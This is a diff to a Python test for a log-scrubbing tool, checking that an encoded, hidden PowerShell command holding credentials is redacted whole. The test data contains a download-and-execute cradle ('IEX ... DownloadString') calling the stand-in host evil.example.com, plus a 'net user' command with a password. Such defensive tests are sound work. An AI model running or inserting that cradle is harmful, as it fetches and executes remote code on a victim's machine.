@@ -308,15 +308,14 @@ def test_pseudonyms_link_paths_accounts_and_profiles():
     assert scrub("/home/alice/x") == "/home/pz-" + PSEUDONYMIZER("account", "alice") + "/x"
 
 
-def test_encoded_powershell_is_scrubbed_inside():
+def test_encoded_powershell_holding_a_credential_goes_whole():
     script = ("IEX (New-Object Net.WebClient).DownloadString('http://bob:Pw1@evil.example.com/a');"
               " net user bob Pw2")
     enc = base64.b64encode(script.encode("utf-16-le")).decode()
     out, n = scrub_text(f"powershell.exe -NoP -W Hidden -Enc {enc}", PSEUDONYMIZER, reduce_url)
-    assert out.startswith("powershell.exe -NoP -W Hidden -Enc ") and n >= 3
-    inner = base64.b64decode(out.rsplit(" ", 1)[1]).decode("utf-16-le")
-    assert "Pw1" not in inner and "Pw2" not in inner and "bob" not in inner
-    assert inner.startswith("IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com')")
+    assert out == "powershell.exe -NoP -W Hidden -Enc [REDACTED]" and n >= 3
+    # no piece of the original payload survives, not even the base64 of the unchanged `IEX (New-...`
+    assert enc[:8] not in out
     harmless = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
     assert scrub(harmless) == harmless
 
